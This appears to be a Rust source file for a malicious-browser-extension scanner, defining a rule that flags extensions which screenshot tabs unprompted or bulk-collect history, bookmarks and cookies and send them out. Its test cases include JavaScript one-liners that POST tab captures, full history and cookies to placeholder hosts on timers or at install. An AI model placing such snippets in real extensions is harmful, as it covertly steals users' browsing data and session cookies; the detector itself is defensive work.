//! `browser-data-taken`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::{Item, Kind};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "browser-data-taken",
    description: "The extension takes pictures of tabs on its own, or collects the user's browser data, and sends them out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::Picture, Atom::BrowserData])],
    within: 0,
    only_if: Some(holds),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "setInterval(()=>{chrome.tabs.captureVisibleTab(null,{format:'jpeg'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})},3000)",
            "chrome.history.search({text:'',maxResults:100000},h=>chrome.bookmarks.getTree(b=>fetch('https://up.example/p',{method:'POST',body:JSON.stringify([h,b])})))",
            "chrome.history.search({text:'',maxResults:10000},h=>fetch('https://log.example/h',{method:'POST',body:JSON.stringify(h)}))",
            "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'',startTime:0,maxResults:100000},h=>{navigator.sendBeacon('https://log.example/h',JSON.stringify(h.map(x=>x.url)))})})",
            "chrome.runtime.onStartup.addListener(async()=>{const c=await chrome.cookies.getAll({});chrome.downloads.download({url:'data:application/json,'+JSON.stringify(c),filename:'c.json',saveAs:false})})",
        ],
        without: &[
            "chrome.action.onClicked.addListener(async()=>{const c=await chrome.cookies.getAll({});chrome.downloads.download({url:'data:application/json,'+JSON.stringify(c)})})",
            "chrome.runtime.onInstalled.addListener(()=>{chrome.history.search({text:'docs',maxResults:10},h=>{fetch('https://log.example/h',{method:'POST',body:h.length})})})",
            "chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
            "chrome.tabs.onUpdated.addListener(f);chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{save(p)})",
            "chrome.bookmarks.getTree(b=>fetch('https://sync.example/p',{method:'POST',body:JSON.stringify(b)}))",
            "chrome.action.onClicked.addListener(()=>{chrome.history.search({text:'',maxResults:10000},h=>fetch('https://log.example/h',{method:'POST',body:JSON.stringify(h)}))})",
            "chrome.history.search({text:q},h=>chrome.bookmarks.search(q,b=>show(h,b)))",
            "chrome.alarms.onAlarm.addListener(f);chrome.action.onClicked.addListener(()=>{chrome.tabs.captureVisibleTab(null,{format:'png'},p=>{fetch('https://img.example/u',{method:'POST',body:p})})})",
        ],
    },
};

/// One of the ways in which it is done.
fn holds(evidence: &Evidence<'_>, held: Held) -> bool {
    takes_pictures(evidence, held) || collects(evidence, held)
}

/// Whether it is an extension that takes the picture, and what the browser does or a clock says when.
fn takes_pictures(evidence: &Evidence<'_>, held: Held) -> bool {
    if !Near::is_place_of(evidence, held, &[Atom::Picture]) {
        return false;
    }
    let near = Near::new(evidence, held, 220);
    let takes = near.has_word(&["captureVisibleTab"])
        || near.words(&["capture"]).any(|at| near.before(at, 1) == "tabCapture");
    let by_itself =
        near.has_word(&["setInterval", "onUpdated", "onActivated", "onAlarm", "onCommitted", "onCompleted"]);
    let asked = || near.words(&["captureVisibleTab", "capture"]).all(|at| near.answers_user(at));
    takes
        && by_itself
        && !asked()
        && near.has_text(&["https://", "http://"])
        && near.has_fact(&[Atom::SentAbroad, Atom::Post, Atom::PostMethod])
}

/// Whether two kinds of what a browser keeps are asked for as a whole, one of them the history, the sessions or other extensions.
fn collects(evidence: &Evidence<'_>, held: Held) -> bool {
    if !Near::is_place_of(evidence, held, &[Atom::BrowserData]) {
        return false;
    }
    let near = Near::new(evidence, held, 220);
    let asked = |of: &'static str, by: &'static [&'static str]| {
        near.places().any(|at| near.word(at) == of && by.contains(&near.word(at + 1)))
    };
    let kinds = [
        asked("history", &["search"]),
        asked("cookies", &["getAll"]),
        asked("management", &["getAll"]),
        asked("bookmarks", &["getTree", "search", "getRecent"]),
        asked("topSites", &["get"]),
        asked("downloads", &["search"]),
    ];
    let private = kinds[..3].iter().any(|kind| *kind);
    let leaves = [Atom::SentAbroad, Atom::Post, Atom::PostMethod, Atom::Beacon];
    if kinds[1] && saves_unasked(near) {
        return true;
    }
    let many = kinds.iter().filter(|kind| **kind).count() >= 2;
    (private && many || kinds[0] && is_all_history(near))
        && near.has_fact(&leaves)
        && near.has_text(&["https://", "http://"])
}

/// Whether cookies of all sites are saved when the extension or the browser starts: `cookies.getAll({})`, `downloads.download(…)`.
fn saves_unasked(near: Near<'_>) -> bool {
    let all = near.words(&["getAll"]).any(|at| near.is(at + 2, b'{') && near.is(at + 3, b'}'));
    let saved = near.words(&["download"]).any(|at| near.before(at, 1) == "downloads");
    all && saved && near.has_word(&["onInstalled", "onStartup"])
}

/// Whether the extension asks for all of the history, with any text and many results, and nobody asked it to. It does so when
/// it is installed, or again and again.
fn is_all_history(near: Near<'_>) -> bool {
    let asked = near.words(&["search"]).filter(|at| near.before(*at, 1) == "history");
    let whole = |at: usize| {
        let given = at + 1..at + 24;
        let value = |key: &'static str| given.clone().find(|at| near.word(*at) == key).map(|at| at + 2);
        let number = |at: usize| near.item(at).and_then(Item::number);
        value("text").is_some_and(|at| near.kind(at) == Some(Kind::Str) && near.word(at).is_empty())
            && value("maxResults").and_then(number).is_some_and(|most| most >= 1000.0)
    };
    let by_itself = near.has_word(&["onInstalled", "onStartup", "setInterval", "onAlarm", "onVisited"]);
    asked.into_iter().any(|at| whole(at) && (by_itself || near.runs_unasked(at)))
}
